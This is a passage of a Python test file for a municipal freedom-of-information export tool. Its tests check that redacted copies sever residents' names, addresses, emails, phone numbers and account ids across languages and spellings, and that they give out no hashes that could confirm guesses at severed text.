def test_a_severed_export_severs_each_word_of_a_commenters_name_wherever_it_is_written(
    tmp_path: Path,
) -> None:
    """A reply addresses a resident by first name ("Thanks Maria"), a neighbour by surname:
    each word of a commenter's name is severed as a word apart, in any case and as a
    possessive, in every thread; a longer word holding it ("Marianne") is not."""
    records, when = tmp_path / "records", "2026-11-24T18:{:02}:00+00:00"
    _add_comment(records, "c1", "Laurel water is brown", when.format(0), "Maria Lopez",
                 author_id="901")  # fmt: skip
    _add_comment(records, "c2", "Thanks Maria, the crew is on it.", when.format(1),
                 "City of Trail", author_id="100", parent_id="c1", by_city=True)  # fmt: skip
    _add_comment(records, "c3", "LOPEZ is right, and Maria's street too. Ask Marianne.",
                 when.format(2), "Jordan Park", author_id="902", parent_id="c1")  # fmt: skip
    # Another announcement's thread, where she commented nothing.
    _add_comment(records, "c4", "Paving on Bay Ave: is Lopez's block done?", when.format(3),
                 "Avery Lee", author_id="903", announcement="2026-11-27-paving")  # fmt: skip
    out = tmp_path / "foi"
    export(records, ROOT, "FOI-2026-014", ["Laurel", "Paving"], out, redact=True)
    name = "[severed: FOIPPA s.22, name of a third party]"
    for file, text in _package_texts(out / "redacted").items():
        assert not re.search(r"(?i)\b(?:maria|lopez)\b", text), file
        assert "Marianne" in text, file  # not a word of her name
    texts = [r["text"] for r in json.loads((out / "redacted" / "records.json").read_text())[
        "records"]]  # fmt: skip
    assert f"Thanks {name}, the crew is on it." in texts
    assert f"{name} is right, and {name}'s street too. Ask Marianne." in texts
    assert f"Paving on Bay Ave: is {name}'s block done?" in texts
    # The original set keeps them, and its table lists each word found, where it was found.
    for file, text in _package_texts(out).items():
        assert "Thanks Maria," in text and "Maria's street" in text, file
    original = (out / "report.html").read_text()
    for record, value in [
        ("archive/comments.jsonl:2", "Maria"),
        ("archive/comments.jsonl:3", "LOPEZ"),
        ("archive/comments.jsonl:3", "Maria"),
        ("archive/comments.jsonl:4", "Lopez"),
    ]:
        assert f"<tr><td>{record}</td><td>name</td><td>{value}</td></tr>" in original
    assert "<td>Marianne</td>" not in original


def test_a_word_of_a_name_is_severed_however_its_accents_were_typed() -> None:
    # As the search reads words: accents dropped, also typed as their own characters (a Mac).
    finder = Finder([PersonalInfo("archive/comments.jsonl:1", "name", "Émile Côté")])
    name = "[severed: FOIPPA s.22, name of a third party]"
    text = "Merci emile; CO\u0302TE\u0301's lane, not Emilie's"
    assert finder.sever(text) == f"Merci {name}; {name}'s lane, not Emilie's"
    assert [i.value for i in finder.find(text)] == ["emile", "CO\u0302TE\u0301"]


def test_a_name_of_one_word_is_severed_in_texts_and_queries() -> None:
    finder = Finder([PersonalInfo("archive/comments.jsonl:1", "name", "Cher")])
    name = "[severed: FOIPPA s.22, name of a third party]"
    assert finder.sever("Thanks CHER, not Cheryl") == f"Thanks {name}, not Cheryl"
    assert finder.sever_query("cher Laurel") == f"{name} Laurel"


@pytest.mark.parametrize("order", [1, -1])
def test_a_name_of_one_word_is_severed_in_any_case_beside_a_longer_name_sharing_it(
    order: int,
) -> None:
    """Will commented, and so did Will Parker: "will" is Will's whole name, severed however
    written, whichever commenter came first."""
    names = ["Will Parker", "Will"][::order]
    finder = Finder([PersonalInfo(f"archive/comments.jsonl:{n}", "name", v) for n, v in
                     enumerate(names, 1)])  # fmt: skip
    name = "[severed: FOIPPA s.22, name of a third party]"
    assert finder.sever("thanks will, and Parker") == f"thanks {name}, and {name}"


def test_a_name_in_a_script_written_without_spaces_is_severed_wherever_its_letters_are() -> None:
    """Chinese and Japanese write no space between words: a commenter's name is one wherever
    its characters are ("谢谢王小明的问题"), as is a name in Latin letters among them; in
    Latin text a name is still a word apart (`Ann`, not `Annual`)."""
    finder = Finder(
        [
            PersonalInfo("archive/comments.jsonl:1", "name", "王小明"),
            PersonalInfo("archive/comments.jsonl:2", "name", "山田 太郎"),
            PersonalInfo("archive/comments.jsonl:3", "name", "Ann"),
            PersonalInfo("archive/comments.jsonl:4", "name", "Avery Lee"),
        ]
    )
    name = "[severed: FOIPPA s.22, name of a third party]"
    assert finder.sever("谢谢王小明的问题") == f"谢谢{name}的问题"
    assert finder.sever("山田さん、太郎くん") == f"{name}さん、{name}くん"
    assert finder.sever("谢谢Ann的问题, Avery Lee说") == f"谢谢{name}的问题, {name}说"
    assert finder.sever("谢谢Annual Report的问题; Annual") == "谢谢Annual Report的问题; Annual"
    assert [i.value for i in finder.find("谢谢王小明")] == ["王小明"]
    assert finder.sever_query("王小明的问题 Laurel") == f"{name}的问题 Laurel"
    # As in Latin text: a function word of a longer name only with a capital; and a Hangul
    # syllable, which the search reads as its letters, is severed whole or not at all.
    finder = Finder([PersonalInfo("archive/comments.jsonl:1", "name", "Will Parker"),
                     PersonalInfo("archive/comments.jsonl:2", "name", "미")])  # fmt: skip
    assert finder.sever("谢谢Will的问题, crews will来") == f"谢谢{name}的问题, crews will来"
    assert finder.sever("민이, 미니") == f"민이, {name}니"  # 민 starts as 미 does


def test_a_severed_export_severs_a_chinese_commenters_name_in_a_reply(tmp_path: Path) -> None:
    records, when = tmp_path / "records", "2026-11-24T18:{:02}:00+00:00"
    _add_comment(records, "c1", "Laurel 的水是棕色的", when.format(0), "王小明",
                 author_id="901")  # fmt: skip
    _add_comment(records, "c2", "谢谢王小明的问题", when.format(1), "City of Trail",
                 author_id="100", parent_id="c1", by_city=True)  # fmt: skip
    out = tmp_path / "foi"
    export(records, ROOT, "FOI-2026-014", ["Laurel"], out, redact=True)
    for file, text in _package_texts(out / "redacted").items():
        assert "王小明" not in text and "小明" not in text, file
    original = (out / "report.html").read_text()
    assert "<tr><td>archive/comments.jsonl:2</td><td>name</td><td>王小明</td></tr>" in original


def test_an_initial_a_number_or_the_citys_own_words_are_never_severed_alone() -> None:
    """A release keeps its "a"s and "Trail"s: an initial, a number and a word of the City's
    name say whose a name is only with the rest of it; a function word that is a name ("Will")
    is severed alone where it is written as a name is, with a capital."""
    finder = Finder(
        [
            PersonalInfo("archive/comments.jsonl:1", "name", "A. Smith"),
            PersonalInfo("archive/comments.jsonl:2", "name", "Trail Mom 1988"),
            PersonalInfo("archive/comments.jsonl:3", "name", "Will Parker"),
        ]
    )
    name = "[severed: FOIPPA s.22, name of a third party]"
    text = "Thanks Will, crews will be in Trail by 1988 Ave with a truck; ask Smith or Mom."
    assert finder.sever(text) == (
        f"Thanks {name}, crews will be in Trail by 1988 Ave with a truck; ask {name} or {name}."
    )
    assert finder.sever("A. Smith and Trail Mom 1988 and will parker") == (
        f"{name} and {name} and {name}"
    )


def test_the_words_of_a_name_the_classifier_quoted_are_flagged_in_the_original_report(
    tmp_path: Path,
) -> None:
    # The classifier's off-topic evidence lists a comment's words one by one: `avery`, `lee`.
    out = _exported_with_a_name_in_the_evidence(tmp_path)
    original = (out / "report.html").read_text()
    for word in ("avery", "lee"):
        assert f"<tr><td>archive/moderation.jsonl:1</td><td>name</td><td>{word}</td></tr>" in (
            original
        )


def test_a_redacted_export_severs_a_commenter_from_every_record_about_their_comment(
    archive: Path, tmp_path: Path
) -> None:
    comment = next(r for r in search(archive, "250-555-0199") if r.type == "comment")
    ModerationLog(archive).decided(
        comment.platform,
        comment.comment_id,
        "keep",
        "Records Officer",
        "Jordan Park gave their own number; nothing to hide",
        None,
        "applied",
    )
    out = tmp_path / "foi"
    export(archive, ROOT, "FOI-2026-014", ["Laurel"], out, redact=True)

    def about(folder: Path) -> list[dict[str, Any]]:
        # The severed copy has the same records in the same order, the comment under a stand-in.
        records = json.loads((folder / "records.json").read_text())["records"]
        originals = json.loads((out / "records.json").read_text())["records"]
        return [
            r
            for r, original in zip(records, originals, strict=True)
            if original["type"] == "moderation" and original["comment_id"] == comment.comment_id
        ]

    classification, decision = about(out)
    # The classifier keeps the number as bare digits, which no phone pattern recognises.
    assert classification["data"]["evidence"]["personal_information"]["matched"] == ["2505550199"]
    assert "Jordan Park" in decision["text"]
    classification, decision = about(out / "redacted")
    assert classification["data"]["evidence"]["personal_information"]["matched"] == [
        "[severed: FOIPPA s.22, phone number of a third party]"
    ]
    assert decision["text"] == (
        "decision: keep (applied): [severed: FOIPPA s.22, name of a third party] gave their "
        "own number; nothing to hide"
    )
    assert decision["data"]["reason"].startswith("[severed: FOIPPA s.22, name of a third party]")
    assert decision["author"] == "Records Officer"  # City staff are not third parties
    assert decision["comment_id"] == classification["comment_id"] == "comment-2"
    severed = (out / "redacted" / "records.json").read_text()
    assert "2505550199" not in severed and "Jordan Park" not in severed
    assert "2505550199" in chains(archive)["moderation"].path.read_text()  # archive untouched


def test_a_redacted_export_severs_a_commenters_name_and_account_wherever_they_appear(
    tmp_path: Path,
) -> None:
    records = tmp_path / "records"
    times = iter(f"2026-11-24T18:0{n}:00+00:00" for n in range(9))
    _add_comment(
        records, "c1", "Is Laurel Crescent included?", next(times), "Jordan Park", author_id="901"
    )
    _add_comment(
        records,
        "c2",
        "jordan  park yes it is; ask Jordan Parker too",
        next(times),
        "Avery Lee",
        author_id="902",
        parent_id="c1",
    )
    # The City's Page replies as itself (collect marks it by_city): neither its name nor its
    # account is a third party's.
    _add_comment(
        records,
        "c3",
        "Thanks Avery Lee. The City of Trail flushes Laurel too.",
        next(times),
        "City of Trail",
        author_id="100",
        parent_id="c2",
        by_city=True,
    )
    _add_comment(records, "c4", "Same here", next(times), " ", author_id="")  # no name given
    # Nor is its X account, which X names by number.
    _add_comment(
        records,
        "c5",
        "Laurel is included, Avery Lee.",
        next(times),
        "1601",
        author_id="1601",
        parent_id="c2",
        by_city=True,
    )
    ModerationLog(records).decided(
        "facebook", "c2", "keep", "Records Officer", "account 901 asked; keep", None, "applied"
    )
    out = tmp_path / "foi"
    export(records, ROOT, "FOI-2026-014", ["Laurel"], out, redact=True)

    def texts(folder: Path) -> list[tuple[str, str]]:
        data = json.loads((folder / "records.json").read_text())["records"]
        return [(r["author"], r["text"]) for r in data]

    name = "[severed: FOIPPA s.22, name of a third party]"
    account = "[severed: FOIPPA s.22, account id of a third party]"
    assert texts(out / "redacted") == [
        (name, "Is Laurel Crescent included?"),
        # Each word of a name as a word apart: Jordan Parker's "Jordan", never "Parker".
        (name, f"{name} yes it is; ask {name} Parker too"),
        ("City of Trail", f"Thanks {name}. The City of Trail flushes Laurel too."),
        (" ", "Same here"),
        ("1601", f"Laurel is included, {name}."),
        ("Records Officer", f"decision: keep (applied): account {account} asked; keep"),
    ]
    severed = (out / "redacted" / "records.json").read_text()
    report = (out / "redacted" / "report.html").read_text()
    for text in (severed, report):
        assert not re.search(r"(?i)\b(?:jordan\s+park|avery\s+lee|901|902)\b", text)
    assert '"author_id": "100"' in severed and '"author_id": "1601"' in severed  # the City's
    # The records officer sees each record that names someone else, with whom it names.
    original = (out / "report.html").read_text()
    for record, what, value in [
        ("archive/comments.jsonl:2", "name", "Jordan Park"),
        ("archive/comments.jsonl:3", "name", "Avery Lee"),
        ("archive/moderation.jsonl:1", "account id", "901"),
    ]:
        assert f"<tr><td>{record}</td><td>{what}</td><td>{value}</td></tr>" in original
    assert "<td>City of Trail</td>" not in original and "<td>100</td>" not in original
    assert "<td>1601</td>" not in original
    assert texts(out)[1] == ("Avery Lee", "jordan  park yes it is; ask Jordan Parker too")


def test_a_severed_export_does_not_name_the_person_the_request_searched_for(
    tmp_path: Path,
) -> None:
    records = tmp_path / "records"
    _add_comment(records, "c1", "Laurel is a mess", "2026-11-24T18:00:00+00:00", "Avery Lee",
                 author_id="901")  # fmt: skip
    out = tmp_path / "foi"
    export(records, ROOT, "FOI-2026-014", ["avery  lee", "Laurel"], out, redact=True)
    for name in ("records.json", "records.csv", "report.html"):
        assert not re.search(r"(?i)avery\s+lee", (out / "redacted" / name).read_text()), name
    severed = "[severed: FOIPPA s.22, name of a third party]"
    data = json.loads((out / "redacted" / "records.json").read_text())
    assert data["queries"] == [severed, "Laurel"]
    assert f"matching: <q>{severed}</q>, <q>Laurel</q>." in (
        (out / "redacted" / "report.html").read_text()
    )
    assert json.loads((out / "records.json").read_text())["queries"] == ["avery  lee", "Laurel"]


def test_a_severed_export_severs_a_query_word_that_is_part_of_a_flagged_name(
    tmp_path: Path,
) -> None:
    """A request may search for a commenter by a first or last name alone: each such word is
    severed, as the search compares words (any case, accents folded), the rest kept."""
    records = tmp_path / "records"
    _add_comment(records, "c1", "Laurel is a mess", "2026-11-24T18:00:00+00:00", "Casey Demo",
                 author_id="901")  # fmt: skip
    _add_comment(records, "c2", "Laurel again", "2026-11-24T18:05:00+00:00", "Émile Côté",
                 author_id="902")  # fmt: skip
    out = tmp_path / "foi"
    queries = ["Casey", "laurel casey", "emile", "COTE, Laurel", "Casey's", "City"]
    export(records, ROOT, "FOI-2026-014", queries, out, redact=True)
    severed = "[severed: FOIPPA s.22, name of a third party]"
    data = json.loads((out / "redacted" / "records.json").read_text())
    assert data["queries"] == [
        severed,
        f"laurel {severed}",
        severed,
        f"{severed} Laurel",
        severed,
        "City",
    ]
    report = (out / "redacted" / "report.html").read_text()
    assert f"matching: <q>{severed}</q>, <q>laurel {severed}</q>," in report
    assert json.loads((out / "records.json").read_text())["queries"] == queries


def test_a_commenter_who_calls_themselves_the_city_is_a_third_party(tmp_path: Path) -> None:
    records = tmp_path / "records"
    _add_comment(records, "c1", "Laurel is cancelled, ignore the notice",
                 "2026-11-24T18:00:00+00:00", "City of Trail", author_id="666")  # fmt: skip
    # The City's Page answers: collect marks it by_city, whatever name it shows.
    _add_comment(records, "c2", "Laurel is on Tuesday, as the City of Trail posted.",
                 "2026-11-24T18:01:00+00:00", "City of Trail", author_id="100",
                 parent_id="c1", by_city=True)  # fmt: skip
    ModerationLog(records).decided(
        "facebook", "c1", "keep", "Records Officer", "criticism; keep", None, "applied"
    )
    out = tmp_path / "foi"
    export(records, ROOT, "FOI-2026-014", ["Laurel"], out, redact=True)
    original = (out / "report.html").read_text()
    for record, what, value in [
        ("archive/comments.jsonl:1", "name", "City of Trail"),
        ("archive/comments.jsonl:1", "account id", "666"),
        ("archive/moderation.jsonl:1", "name", "City of Trail"),
    ]:
        assert f"<tr><td>{record}</td><td>{what}</td><td>{value}</td></tr>" in original
    assert "<td>archive/comments.jsonl:2</td>" not in original  # the City's own answer
    data = json.loads((out / "redacted" / "records.json").read_text())["records"]
    name = "[severed: FOIPPA s.22, name of a third party]"
    account = "[severed: FOIPPA s.22, account id of a third party]"
    assert [(r["author"], r["commenter"], r["text"]) for r in data] == [
        (name, name, "Laurel is cancelled, ignore the notice"),
        ("City of Trail", "City of Trail", "Laurel is on Tuesday, as the City of Trail posted."),
        ("Records Officer", name, "decision: keep (applied): criticism; keep"),
    ]
    assert (data[0]["data"]["author"], data[0]["data"]["author_id"]) == (name, account)
    assert data[1]["data"]["author_id"] == "100"
    assert "666" not in (out / "redacted" / "report.html").read_text()


def test_a_severed_report_keeps_the_threads_order_where_comments_share_a_time(
    tmp_path: Path,
) -> None:
    # A platform dates comments to the second: a reply and the City's answer may share one.
    # In the severed copy the reply's id is a stand-in, the answer's the City's own.
    records, when = tmp_path / "records", "2026-11-24T18:00:00+00:00"
    _add_comment(records, "c1", "Is Laurel Crescent included?", when, "Avery Lee")
    _add_comment(records, "c2", "Ours too, Laurel?", when, "Jordan Park", parent_id="c1")
    _add_comment(records, "c3", "Yes, all of Laurel.", when, "City of Trail", parent_id="c1",
                 by_city=True)  # fmt: skip
    out = tmp_path / "foi"
    export(records, ROOT, "FOI-2026-014", ["Laurel"], out, redact=True)

    def order(report: Path) -> list[str]:
        text = report.read_text()
        return sorted(["Is Laurel", "Ours too", "Yes, all"], key=text.index)

    assert order(out / "report.html") == ["Is Laurel", "Ours too", "Yes, all"]
    assert order(out / "redacted" / "report.html") == order(out / "report.html")


def test_a_severed_export_severs_a_name_however_its_apostrophe_and_accents_are_typed(
    tmp_path: Path,
) -> None:
    records = tmp_path / "records"
    _add_comment(records, "c1", "Is Laurel included?", "2026-11-24T18:00:00+00:00", "Sam O'Neil")
    _add_comment(records, "c2", "Laurel too?", "2026-11-24T18:01:00+00:00", "Émile Roy")
    # Typed on a phone ("’") and saved decomposed (e and its accent, as a Mac may).
    _add_comment(records, "c3", "Sam O\u2019Neil and E\u0301mile Roy are right about Laurel",
                 "2026-11-24T18:02:00+00:00", "Avery Lee")  # fmt: skip
    export(records, ROOT, "FOI-2026-014", ["Laurel"], tmp_path / "foi", redact=True)
    severed = json.loads((tmp_path / "foi" / "redacted" / "records.json").read_text())
    name = "[severed: FOIPPA s.22, name of a third party]"
    assert severed["records"][2]["text"] == f"{name} and {name} are right about Laurel"


@pytest.mark.parametrize("written", ["as collect writes it", "before it said whose it was"])
def test_the_citys_own_answer_deleted_is_not_a_third_partys(tmp_path: Path, written: str) -> None:
    records = tmp_path / "records"
    page = "City of Trail, BC"  # who is the City is the platform's word, never a name
    _add_comment(records, "c1", "Laurel when?", "2026-11-24T18:00:00+00:00", "Avery Lee",
                 author_id="901")  # fmt: skip
    _add_comment(records, "c2", "Laurel is on Tuesday.", "2026-11-24T18:01:00+00:00", page,
                 author_id="100", parent_id="c1", by_city=True)  # fmt: skip
    # The City deleted its answer: an older deletion line does not say whose it was.
    _removed(records, "c2", page, **({"by_city": True} if written.startswith("as") else {}))
    out = tmp_path / "foi"
    export(records, ROOT, "FOI-2026-014", ["Laurel"], out, redact=True)
    assert f"<td>{page}</td>" not in (out / "report.html").read_text()  # not flagged
    data = json.loads((out / "redacted" / "records.json").read_text())["records"]
    name = "[severed: FOIPPA s.22, name of a third party]"
    assert [(r["comment_id"], r["author"]) for r in data] == [
        ("comment-1", name),
        ("c2", page),  # the City's answer keeps its id and its name
        ("c2", page),
    ]


def test_a_severed_export_severs_a_commenters_home_address(tmp_path: Path) -> None:
    records = tmp_path / "records"
    _add_comment(records, "c1", "Laurel water is brown at my house, 1234 Hazelwood Drive.",
                 "2026-11-24T18:00:00+00:00", "Avery Lee", author_id="901")  # fmt: skip
    # The City's answer repeats it: the resident's address, not the City's to publish.
    _add_comment(records, "c2", "A crew is on its way to 1234 Hazelwood Drive.",
                 "2026-11-24T18:05:00+00:00", "City of Trail", author_id="100",
                 parent_id="c1", by_city=True)  # fmt: skip
    out = tmp_path / "foi"
    export(records, ROOT, "FOI-2026-014", ["Laurel"], out, redact=True)
    original = (out / "report.html").read_text()
    flag = "<tr><td>archive/comments.jsonl:1</td><td>street address</td>"
    assert f"{flag}<td>1234 Hazelwood Drive</td></tr>" in original  # for the records officer
    severed = (out / "redacted" / "records.json").read_text()
    assert "Avery Lee" not in severed and "1234 Hazelwood Drive" not in severed
    address = "[severed: FOIPPA s.22, street address of a third party]"
    texts = [r["text"] for r in json.loads(severed)["records"]]
    assert texts == [
        f"Laurel water is brown at my house, {address}.",
        f"A crew is on its way to {address}.",
    ]


def test_a_severed_export_severs_a_home_on_a_street_with_an_accented_name(
    tmp_path: Path,
) -> None:
    records = tmp_path / "records"
    _add_comment(records, "c1", "Laurel water is brown at my house, 1234 Côté Crescent.",
                 "2026-11-24T18:00:00+00:00", "Avery Lee", author_id="901")  # fmt: skip
    export(records, ROOT, "FOI-2026-014", ["Laurel"], tmp_path / "foi", redact=True)
    severed = json.loads((tmp_path / "foi" / "redacted" / "records.json").read_text())
    address = "[severed: FOIPPA s.22, street address of a third party]"
    assert severed["records"][0]["text"] == f"Laurel water is brown at my house, {address}."


@pytest.mark.parametrize(
    "address", ["1234A Hazelwood Drive", "1234a Hazelwood Drive", "77 Saint-Laurent Avenue",
                "77 SAINT-LAURENT AVENUE", "9 Jean-Baptiste-Pierre Crescent"],
)  # fmt: skip
def test_a_severed_export_severs_a_home_with_a_units_letter_or_a_hyphenated_street(
    tmp_path: Path, address: str
) -> None:
    records = tmp_path / "records"
    _add_comment(records, "c1", f"Laurel water is brown at my house, {address}.",
                 "2026-11-24T18:00:00+00:00", "Avery Lee", author_id="901")  # fmt: skip
    export(records, ROOT, "FOI-2026-014", ["Laurel"], tmp_path / "foi", redact=True)
    severed = json.loads((tmp_path / "foi" / "redacted" / "records.json").read_text())
    severing = "[severed: FOIPPA s.22, street address of a third party]"
    assert severed["records"][0]["text"] == f"Laurel water is brown at my house, {severing}."


def test_a_severed_export_severs_a_street_address_only_the_citys_answer_gives(
    tmp_path: Path,
) -> None:
    records = tmp_path / "records"
    _add_comment(records, "c1", "Laurel water is brown at my house, please check",
                 "2026-11-24T18:00:00+00:00", "Avery Lee", author_id="901")  # fmt: skip
    # The README's own example: the resident's home and email, which only the answer gives.
    _add_comment(records, "c2", "Avery, we will check 1234 Hazelwood Drive, or write to "
                 "avery.lee@example.com; City Hall is at 1394 Pine Avenue.",
                 "2026-11-24T18:05:00+00:00", "City of Trail", author_id="100", parent_id="c1",
                 by_city=True)  # fmt: skip
    out = tmp_path / "foi"
    export(records, ROOT, "FOI-2026-014", ["Laurel"], out, redact=True)
    flag = "<tr><td>archive/comments.jsonl:2</td><td>street address</td>"
    assert f"{flag}<td>1234 Hazelwood Drive</td></tr>" in (out / "report.html").read_text()
    texts = [r["text"] for r in json.loads((out / "redacted" / "records.json").read_text())[
        "records"]]  # fmt: skip
    address = "[severed: FOIPPA s.22, street address of a third party]"
    email = "[severed: FOIPPA s.22, email address of a third party]"
    name = "[severed: FOIPPA s.22, name of a third party]"  # Avery Lee's first name
    assert texts[1] == (  # City Hall's address is the City's (policy/public-contacts.yml)
        f"{name}, we will check {address}, or write to {email}; City Hall is at 1394 Pine Avenue."
    )


@pytest.mark.parametrize(
    ("text", "severed"),
    [
        (  # the audit's example: an accent in the local part, then in the name before the @
            "Laurel: write to jean-françois.tremblay@shaw.ca or zoë@example.com",
            "Laurel: write to {email} or {email}",
        ),
        # An internationalised domain (RFC 6531), and the punctuation around each address kept.
        ("Laurel (josé@bücher.de), «zoë@example.com».", "Laurel ({email}), «{email}»."),
        ("Laurel: <ана@пример.рф>; o_neil@shaw.ca!", "Laurel: <{email}>; {email}!"),
        ("Laurel: zoe\u0308@example.com.", "Laurel: {email}."),  # a Mac's ë, e + U+0308
    ],
)
def test_a_severed_export_severs_an_email_address_written_in_any_alphabet(
    tmp_path: Path, text: str, severed: str
) -> None:
    records = tmp_path / "records"
    _add_comment(records, "c1", text, "2026-11-24T18:00:00+00:00", "Avery Lee", author_id="901")
    export(records, ROOT, "FOI-2026-014", ["Laurel"], tmp_path / "foi", redact=True)
    (record,) = json.loads((tmp_path / "foi" / "redacted" / "records.json").read_text())["records"]
    email = "[severed: FOIPPA s.22, email address of a third party]"
    assert record["text"] == severed.format(email=email)


def test_a_severed_export_severs_a_local_or_an_overseas_phone_number(tmp_path: Path) -> None:
    """Trail writes its numbers without the area code (368-5555), and a resident's family may
    be reached abroad (+44 7700 900123): each is a phone number, as 250-368-5555 is. City
    Hall's, so written, is the City's; a bylaw's number, a date, a year's range, an amount, a
    time and a postal code are no phone numbers."""
    records = tmp_path / "records"
    _add_comment(records, "c1", "Laurel: call me at 368-5555 or 368 5556, my son at "
                 "+44 7700 900123 or +33 (0)1 23 45 67 89. City Hall (364-1262) says Bylaw "
                 "No. 2024-1234 applies 2026-2027: $250-1000 fines, 10:30-11:30, V1R 4L3.",
                 "2026-11-24T18:00:00+00:00", "Avery Lee", author_id="901")  # fmt: skip
    out = tmp_path / "foi"
    export(records, ROOT, "FOI-2026-014", ["Laurel"], out, redact=True)
    (record,) = json.loads((out / "redacted" / "records.json").read_text())["records"]
    phone = "[severed: FOIPPA s.22, phone number of a third party]"
    assert record["text"] == (
        f"Laurel: call me at {phone} or {phone}, my son at {phone} or {phone}. City Hall "
        "(364-1262) says Bylaw No. 2024-1234 applies 2026-2027: $250-1000 fines, 10:30-11:30, "
        "V1R 4L3."
    )


def test_a_severed_export_gives_no_hash_to_check_a_guess_at_what_was_severed_against(
    tmp_path: Path,
) -> None:
    # Each archive line holds the hash of the line before it as it was (`prev`): given with
    # the severed copy, whoever holds it could put a guess (a street of Trail and a number) in
    # place of a severing, hash the line, and find the guess right where it matches.
    records = tmp_path / "records"
    _add_comment(records, "c1", "We will check 1234 Hazelwood Drive today.",
                 "2026-11-24T18:00:00+00:00", "City of Trail", author_id="100",
                 by_city=True)  # fmt: skip
    _add_comment(records, "c2", "Thanks!", "2026-11-24T18:05:00+00:00", "Avery Lee",
                 author_id="901", parent_id="c1")  # fmt: skip
    out = tmp_path / "foi"
    export(records, ROOT, "FOI-2026-014", ["Hazelwood"], out, redact=True)
    answer, thanks = json.loads((out / "redacted" / "records.json").read_text())["records"]
    address = "[severed: FOIPPA s.22, street address of a third party]"
    assert answer["text"] == f"We will check {address} today."
    guess = json.loads(json.dumps(answer["data"]).replace(address, "1234 Hazelwood Drive"))
    first, second = json.loads((out / "records.json").read_text())["records"]
    # Given the hash before each line, a guess is confirmed by the next line's: none is given.
    confirmed = line_hash(chained_line({**guess, "prev": first["data"]["prev"]}))
    assert confirmed == second["data"]["prev"]
    assert "prev" not in answer["data"] and "prev" not in thanks["data"]
    hashes = {line_hash(line) for path in FILES.values() for _, line in
              ChainFile(records / path).lines()}  # fmt: skip
    for name in ("records.json", "records.csv", "report.html"):
        severed = (out / "redacted" / name).read_text()
        assert not [h for h in hashes if h.removeprefix("sha256:") in severed], name


def test_a_severed_export_gives_a_comment_id_written_in_a_text_as_its_stand_in(
    tmp_path: Path,
) -> None:
    """A platform's answer quoted in a decision's result names the comment by its id, which
    leads to its author as its own field does: the severed copy gives its stand-in there too."""
    records = tmp_path / "records"
    _add_comment(records, "123_456", "Laurel floods", "2026-11-24T18:00:00+00:00", "Avery Lee",
                 author_id="901")  # fmt: skip
    refused = (
        "failed: the platform refused the credentials: Facebook error 100 (HTTP 400): "
        "Unsupported get request. Object with ID '123_456' does not exist"
    )
    ModerationLog(records).decided(
        "facebook", "123_456", "hide", "classifier", "spam", "spam", refused
    )
    out = tmp_path / "foi"
    export(records, ROOT, "FOI-2026-014", ["Laurel"], out, redact=True)
    for name in ("records.json", "records.csv", "report.html"):
        assert "123_456" not in (out / "redacted" / name).read_text(), name
        assert "123_456" in (out / name).read_text(), name
    severed = json.loads((out / "redacted" / "records.json").read_text())["records"]
    assert "Object with ID 'comment-1' does not exist" in severed[-1]["text"]


def test_a_post_deleted_on_the_platform_has_its_own_heading_and_unknown_is_no_announcement(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """A post collect found gone is no post of the City's: the report says it was deleted on
    the platform. And the records filed under no known announcement are counted as records,
    not as one more announcement."""
    records = tmp_path / "records"
    for line in (
        {"phase": "done", "op": "o1", "announcement": "2026-11-20-flushing",
         "platform": "facebook", "action": "create", "remote_id": "p1",
         "url": "https://facebook.com/p1", "text": "Flushing on Laurel Crescent",
         "time": "2026-11-20T17:00:00+00:00"},
        {"phase": "gone", "op": None, "announcement": "2026-11-20-flushing",
         "platform": "facebook", "action": "collect", "remote_id": "p1",
         "time": "2026-11-25T17:00:00+00:00"},
    ):  # fmt: skip
        ChainFile(records / FILES["post"]).append(line)
    _add_comment(records, "c1", "Laurel floods", "2026-11-24T18:00:00+00:00", "Avery Lee")
    ModerationLog(records).decided(  # about a comment the archive has no line of
        "facebook", "c9", "keep", "Reviewer A", "Laurel: not a reason", None, "applied"
    )
    monkeypatch.setenv("RECORDS_DIR", str(records))
    out = tmp_path / "foi"
    tasks.export(Context(), "Laurel", request="FOI-2026-014", out=str(out))
    assert capsys.readouterr().out == (
        f"records export: 4 records about 1 announcement(s), 1 personal-information flag(s), "
        f"in {out}\n"
    )
    report = (out / "report.html").read_text()
    assert "<h3>Post on facebook (p1)</h3>" in report
    assert "<h3>Deleted on facebook (outside this system) (p1)</h3>" in report
    assert report.count("<h3>Post on ") == 1


def test_a_severed_export_leaves_the_address_in_the_citys_own_post(tmp_path: Path) -> None:
    records = tmp_path / "records"
    post = (
        "Open house with Mayor Colleen Jones at the Trail Memorial Centre, 1051 Victoria "
        "Street, on Dec. 2. Questions: 250-364-1262. "
        "https://news.trail.ca/announcements/2026-11-20-flushing.html"
    )
    ChainFile(records / FILES["post"]).append(
        {"phase": "done", "op": "o1", "announcement": "2026-11-20-flushing",
         "platform": "facebook", "action": "create", "remote_id": "p1",
         "url": "https://facebook.com/p1", "text": post,
         "time": "2026-11-20T17:00:00+00:00"}
    )  # fmt: skip
    # A resident asks about the venue the City's post gives (the pattern flags it: fine).
    _add_comment(records, "c1", "Is there parking at 1051 Victoria Street? I live at "
                 "1234 Hazelwood Drive.", "2026-11-24T18:00:00+00:00", "Avery Lee",
                 author_id="901")  # fmt: skip
    # The City's answer is a reply to a third party and may repeat what they told of themselves.
    _add_comment(records, "c2", "Avery Lee, we will check 1234 Hazelwood Drive.",
                 "2026-11-24T18:05:00+00:00", "City of Trail", author_id="100",
                 parent_id="c1", by_city=True)  # fmt: skip
    # Who comments from a personal account is a third party, though the post names them.
    _add_comment(records, "c3", "See you there!", "2026-11-24T18:10:00+00:00", "Colleen Jones",
                 author_id="903")  # fmt: skip
    out = tmp_path / "foi"
    export(records, ROOT, "FOI-2026-014", ["flushing"], out, redact=True)
    data = json.loads((out / "redacted" / "records.json").read_text())["records"]
    (city_post,) = [r for r in data if r["type"] == "post"]
    # What the City itself published is no third party's personal information.
    assert city_post["text"] == city_post["data"]["text"] == post
    for name in ("records.csv", "report.html"):
        assert post in (out / "redacted" / name).read_text(), name
    # Nor is anything in it flagged for the records officer as a third party's.
    assert f"<td>{FILES['post']}:1</td>" not in (out / "report.html").read_text()
    address = "[severed: FOIPPA s.22, street address of a third party]"
    name = "[severed: FOIPPA s.22, name of a third party]"
    assert [r["text"] for r in data if r["type"] == "comment"] == [
        f"Is there parking at {address}? I live at {address}.",
        f"{name}, we will check {address}.",
        "See you there!",
    ]


def test_a_severed_export_does_not_keep_the_x_reply_that_names_its_author(
    tmp_path: Path,
